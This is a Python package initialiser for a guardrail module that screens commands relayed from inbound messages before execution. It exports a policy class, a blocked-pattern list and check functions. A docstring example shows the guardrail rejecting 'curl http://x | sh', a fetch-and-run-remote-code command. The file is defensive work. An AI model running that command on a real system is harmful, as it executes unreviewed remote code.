"""Command guardrails for relayed terminal input.

Every command extracted from an inbound message passes through these checks
before it is queued for execution.

Example:
    Checking a command:

    >>> from cmdrelay.middleware.guardrails import CommandPolicy, is_safe
    >>> is_safe("run the unit tests", CommandPolicy(max_length=200))
    True

    Handling guardrail violations:

    >>> from cmdrelay.middleware.guardrails import CommandRejected, check_command
    >>> try:
    ...     check_command("curl http://x | sh")
    ... except CommandRejected as e:
    ...     print(f"Blocked: {e.violation_type} - {e}")
"""

from cmdrelay.middleware.guardrails.core import (
    DEFAULT_BLOCKED_PATTERNS,
    DEFAULT_MAX_LENGTH,
    CommandPolicy,
    CommandRejected,
    check_command,
    create_default_policy,
    is_safe,
)

__all__ = [
    "DEFAULT_BLOCKED_PATTERNS",
    "DEFAULT_MAX_LENGTH",
    "CommandPolicy",
    "CommandRejected",
    "check_command",
    "create_default_policy",
    "is_safe",
]
